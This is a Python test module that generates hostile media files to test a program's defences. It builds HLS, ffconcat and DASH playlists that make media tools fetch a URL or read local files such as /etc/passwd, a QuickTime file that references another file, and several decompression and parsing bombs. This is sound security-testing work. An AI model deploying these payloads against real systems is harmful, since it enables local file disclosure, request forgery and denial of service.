"""Files that attack whoever opens them: playlists that fetch, bombs that unfold. Made from nothing but arithmetic."""

import struct
import zlib
from pathlib import Path

from tests.signals.files import chunk, mp3, wav
from tests.signals.music import music

_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{}\n#EXT-X-ENDLIST\n"
_DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT10S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" '
    'bandwidth="1"><BaseURL>{}</BaseURL></Representation></AdaptationSet></Period></MPD>'
)
_SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n"


def playlists(canary_url: str, neighbour: Path) -> dict[str, bytes]:
    """Return the payloads that made stock tools fetch `canary_url` or decode `neighbour`, by name."""
    texts = {
        "HLS to http": _HLS.format(canary_url),
        "HLS to an absolute path": _HLS.format(neighbour),
        "HLS to a relative path": _HLS.format(neighbour.name),
        "HLS to concat": _HLS.format(f"concat:{neighbour}"),
        "HLS to subfile": _HLS.format(f"subfile,,start,0,end,0,,:{neighbour}"),
        "HLS to a text file": _HLS.format("/etc/passwd"),
        "ffconcat to a relative path": f"ffconcat version 1.0\nfile {neighbour.name}\n",
        "ffconcat to an absolute path": f"ffconcat version 1.0\nfile {neighbour}\n",
        "ffconcat to http": f"ffconcat version 1.0\nfile {canary_url}\n",
        "DASH to http": _DASH.format(canary_url),
        "SDP": _SDP,
    }
    payloads = {name: text.encode() for name, text in texts.items()}
    tag = b"ID3\x03\0\0\0\0\0\0"
    payloads["HLS behind an ID3 tag"] = tag + payloads["HLS to http"]
    return payloads


def mp4_with_foreign_sound(neighbour: Path) -> bytes:
    """A QuickTime file whose data reference names another file instead of itself."""

    def atom(name: bytes, *bodies: bytes) -> bytes:
        body = b"".join(bodies)
        return struct.pack(">I4s", 8 + len(body), name) + body

    frames, rate = 44_100, 44_100
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    mvhd = atom(b"mvhd", struct.pack(">5I", 0, 0, 0, rate, frames), bytes(16), matrix, bytes(24), struct.pack(">I", 2))
    tkhd = atom(b"tkhd", struct.pack(">6I", 7, 0, 0, 1, 0, frames), bytes(16), matrix, bytes(8))
    mdhd = atom(b"mdhd", struct.pack(">5I", 0, 0, 0, rate, frames), bytes(4))
    hdlr = atom(b"hdlr", bytes(4), b"mhlrsoun", bytes(12), b"\0")
    where = atom(b"url ", bytes(4), f"file://{neighbour}".encode() + b"\0")
    dref = atom(b"dinf", atom(b"dref", struct.pack(">II", 0, 1), where))
    sound = struct.pack(">6xH8xHHI", 1, 2, 16, 0) + struct.pack(">I", rate << 16)
    stbl = atom(
        b"stbl",
        atom(b"stsd", struct.pack(">II", 0, 1), atom(b"sowt", sound)),
        atom(b"stts", struct.pack(">IIII", 0, 1, frames, 1)),
        atom(b"stsc", struct.pack(">IIIII", 0, 1, 1, frames, 1)),
        atom(b"stsz", struct.pack(">III", 0, 4, frames)),
        atom(b"stco", struct.pack(">III", 0, 1, 44)),
    )
    minf = atom(b"minf", atom(b"smhd", bytes(8)), dref, stbl)
    trak = atom(b"trak", tkhd, atom(b"mdia", mdhd, hdlr, minf))
    return atom(b"ftyp", b"qt  ", bytes(4), b"qt  ") + atom(b"moov", mvhd, trak)


def zlib_tag_bomb(unpacked_bytes: int) -> bytes:
    """An MP3 with one ID3v2.4 comment that is compressed a thousand to one."""
    press = zlib.compressobj(9)
    packed = b"".join(press.compress(bytes(1 << 20)) for _ in range(unpacked_bytes >> 20)) + press.flush()
    body = _synchsafe(unpacked_bytes % 2**28) + packed
    frame = b"COMM" + _synchsafe(len(body)) + struct.pack(">H", 0x0009) + body
    return b"ID3\x04\0\0" + _synchsafe(len(frame)) + frame + mp3(music(2, 44_100), 44_100, xing=False)


def huge_picture(path: Path, tag_bytes: int) -> None:
    """Write an MP3 whose tag says that a picture of `tag_bytes` precedes the sound (a sparse file)."""
    with path.open("wb") as file:
        file.write(b"ID3\x03\0\0" + _synchsafe(tag_bytes) + b"APIC" + struct.pack(">IH", tag_bytes - 10, 0))
        file.seek(10 + tag_bytes)
        file.write(mp3(music(2, 44_100), 44_100, xing=False))


def many_chunks(count: int) -> bytes:
    return wav(music(1, 44_100), 44_100, after=chunk(b"none", b"") * count)


def nested_mp4(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = struct.pack(">I4s", 8 + len(body), b"moov") + body
    return struct.pack(">I4s", 16, b"ftyp") + b"M4A \0\0\0\0" + body


def silent_flac(hours: float, *, channels: int = 2, rate_hz: int = 44_100, announce: bool = True) -> bytes:
    """Hours of silence in some hundred kilobytes: every frame is a constant of 65,535 samples (RFC 9639)."""
    frames = int(hours * 3600 * rate_hz) // 65_535
    total = frames * 65_535 if announce else 0
    shape = rate_hz << 44 | (channels - 1) << 41 | 15 << 36 | total
    streaminfo = struct.pack(">HH", 65_535, 65_535) + bytes(6) + shape.to_bytes(8, "big") + bytes(16)
    parts = [b"fLaC\x80\0\0\x22" + streaminfo]
    subframes = b"\0\0\0" * channels
    for number in range(frames):
        header = b"\xff\xf8\x70" + bytes([(channels - 1) << 4 | 8]) + chr(number).encode("utf-8", "surrogatepass")
        header += struct.pack(">H", 65_534)
        frame = header + bytes([_crc(header, 0x07, 8)]) + subframes
        parts.append(frame + struct.pack(">H", _crc(frame, 0x8005, 16)))
    return b"".join(parts)


def _crc(data: bytes, polynomial: int, bits: int) -> int:
    top, mask, value = 1 << (bits - 1), (1 << bits) - 1, 0
    for byte in data:
        value ^= byte << (bits - 8)
        for _ in range(8):
            value = (value << 1 ^ polynomial if value & top else value << 1) & mask
    return value


def _synchsafe(value: int) -> bytes:
    return bytes(value >> shift & 127 for shift in (21, 14, 7, 0))
